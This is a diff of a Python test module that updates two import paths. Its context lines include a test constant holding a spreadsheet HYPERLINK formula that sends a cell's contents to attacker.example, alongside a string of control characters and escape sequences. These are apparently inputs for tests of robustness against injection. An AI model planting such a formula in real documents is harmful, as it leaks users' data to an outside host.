@@ -22,7 +22,7 @@ from intake.sources.maildir import deliver
 from tests.cli_helpers import cli_json, run_cli, write_config
 from tests.test_compile import AGENCIES, YEAR, report_docx, report_email
 from workflow.app import App
-from workflow.daemon import Daemon
+from workflow.runtime.daemon import Daemon
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm để xem")'
 CONTROL = "Tây Ninh\x01 hỗ trợ\x0b 12 doanh nghiệp\x1b[2J.\x00"
@@ -105,7 +105,7 @@ def test_compile_survives_control_characters(season):
 
 def test_digest_docx_survives_control_characters(tmp_path):
     from notifier.digest_docx import status_table_docx
-    from workflow.status import StatusRow
+    from workflow.season.status import StatusRow
 
     row = StatusRow(agency="x", name="Tỉnh\x02 X\x1b", kind="province", state="received",
                     received_at=datetime(2024, 11, 20, tzinfo=timezone.utc), on_time=True, versions=1,
